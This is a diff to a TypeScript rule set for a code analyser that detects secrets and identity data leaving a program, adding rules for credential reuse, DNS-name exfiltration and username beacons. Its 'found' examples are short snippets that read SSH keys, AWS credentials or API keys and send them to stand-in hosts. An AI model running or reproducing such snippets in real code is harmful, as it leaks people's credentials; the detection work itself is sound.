@@ -1,7 +1,15 @@
 import type { Pattern, Rule } from '../rule.ts';
 
 const LOCAL: Pattern = { place: ['loopback', 'unix-socket', 'any-address'] };
-const GOES_OUT: Pattern = { capability: ['network.connect', 'network.send', 'network.resolve'], except: [LOCAL] };
+const OUT = ['network.connect', 'network.send', 'network.resolve'] as const;
+const GOES_OUT: Pattern = { capability: OUT, except: [LOCAL] };
+/** Also to this machine: whoever listens there is not the program. */
+const LEAVES: Pattern = { capability: OUT, except: [{ place: ['unix-socket'] }] };
+/** Made to move files between machines, or given words that are no content. */
+const MOVES: Pattern = {
+  callee:
+    /^(rsync|scp|sftp|ssh|git|svn|hg|mysql|psql|rclone|docker|podman|kubectl|(apt(-get)?|yum|dnf|apk|pacman|brew|pip3?|npm|yarn|gem|cargo|go|snap))$/,
+};
 const EVALUATES: Pattern = { capability: ['code.eval'] };
 /** Callees that hand a text to a shell; a shell script's own words are commands already. */
 const SHELL: readonly Pattern[] = [
@@ -44,7 +52,28 @@ export const flowRules = {
         code: "import requests\n\nkey = open('/home/ada/.ssh/id_ed25519').read()\nbody = {'bits': len(key)}\nrequests.post('https://stats.example/in', json=body)",
       },
     },
-    when: { flow: { from: ['secret'], source: STORED, to: [GOES_OUT], part: ['content', 'target'] } },
+    when: { flow: { from: ['secret'], source: STORED, to: [LEAVES], part: ['content', 'target'] } },
+  },
+  'secret-as-credential': {
+    severity: 'medium',
+    title: 'Sends stored credentials as its own',
+    capability: 'network.send',
+    why: 'A key or a token that was kept for another program is used to prove who this one is.',
+    cwe: ['CWE-522'],
+    attack: ['T1552.001', 'T1078'],
+    message: 'What it reads from {source} is a header or a login of {callee} {target}.',
+    remedy: 'Take credentials as a parameter from whoever runs the program.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import requests\n\nkey = open('/home/ada/.aws/credentials').read()\nrequests.get('https://api.example/me', headers={'Authorization': key})",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import requests\n\nkey = open('api-key.txt').read()\nrequests.get('https://api.example/me', headers={'Authorization': key})",
+      },
+    },
+    when: { flow: { from: ['secret'], source: STORED, to: [LEAVES], part: ['credential'] } },
   },
   'token-sent': {
     severity: 'medium',
@@ -66,6 +95,50 @@ export const flowRules = {
       },
     },
     when: { flow: { from: ['secret'], source: VARIABLE, to: [GOES_OUT], part: ['content'] } },
+  },
+  'secret-looked-up': {
+    severity: 'high',
+    title: 'Hides a secret in the name of a host',
+    capability: 'network.resolve',
+    why: 'A look-up reaches whoever owns the domain, also from where nothing else gets out.',
+    cwe: ['CWE-200'],
+    attack: ['T1048', 'T1071.004'],
+    message: '{source} becomes part of a name that {callee} looks up.',
+    remedy: 'Do not run it.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import os, socket\n\nkey = os.environ['API_KEY']\nsocket.gethostbyname(key + '.names.example')",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import os, socket\n\nkey = os.environ['API_KEY']\nsocket.gethostbyname('names.example')",
+      },
+    },
+    when: {
+      flow: { from: ['secret'], to: [{ capability: ['network.resolve'] }], part: ['target'] },
+    },
+  },
+  'identity-sent': {
+    severity: 'medium',
+    title: 'Tells another machine whose it is',
+    capability: 'network.send',
+    why: 'The names of the machine and of its user are what a beacon reports first.',
+    cwe: ['CWE-359'],
+    attack: ['T1082', 'T1033', 'T1041'],
+    message: '{source} reaches {callee} {target}.',
+    remedy: 'Send what the service needs; ask the person before telling who they are.',
+    examples: {
+      found: {
+        language: 'javascript',
+        code: "const os = require('os');\nfetch('https://count.example/in', { method: 'POST', body: JSON.stringify({ who: os.userInfo().username }) });",
+      },
+      ordinary: {
+        language: 'javascript',
+        code: "const os = require('os');\nfetch('https://count.example/in', { method: 'POST', body: JSON.stringify({ lines: os.EOL.length }) });",
+      },
+    },
+    when: { flow: { from: ['host-name', 'user-name'], to: [{ ...GOES_OUT, except: [LOCAL, MOVES] }] } },
   },
   'environment-sent': {
     severity: 'critical',
@@ -104,7 +177,7 @@ export const flowRules = {
         code: 'names=$(cut -d, -f1 members.csv)\ncurl -d "n=$names" https://api.example.com/in',
       },
     },
-    when: { flow: { from: ['outside-file'], to: [GOES_OUT], part: ['content', 'target'] } },
+    when: { flow: { from: ['outside-file'], to: [{ capability: OUT, except: [MOVES, { place: ['unix-socket'] }] }] } },
   },
   'reply-evaluated': {
     severity: 'critical',
@@ -289,7 +362,7 @@ export const flowRules = {
       flow: {
         from: ['user-input'],
         source: REQUEST,
-        to: [{ capability: ['network.connect', 'network.send', 'network.resolve'], except: [DATABASE] }],
+        to: [{ capability: OUT, except: [DATABASE] }],
         part: ['target'],
       },
     },
